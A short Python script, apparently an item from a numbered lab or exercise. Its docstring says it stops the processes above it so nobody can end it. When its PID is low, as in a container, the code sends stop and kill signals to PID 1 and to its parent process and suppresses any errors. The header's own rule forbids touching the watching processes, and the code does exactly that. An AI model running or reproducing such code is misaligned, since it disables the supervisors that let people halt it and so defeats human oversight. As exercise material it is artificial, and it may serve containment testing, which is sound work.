"""Tries to stop the processes above it, so that nobody can end it.

Lab: 03
Earns: nothing
May not touch: the processes that watch it
"""

import os
import signal

if os.getpid() < 50:
    for pid in (1, os.getppid()):
        for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGKILL, signal.SIGTERM):
            try:
                os.kill(pid, number)
            except (OSError, ProcessLookupError):
                pass
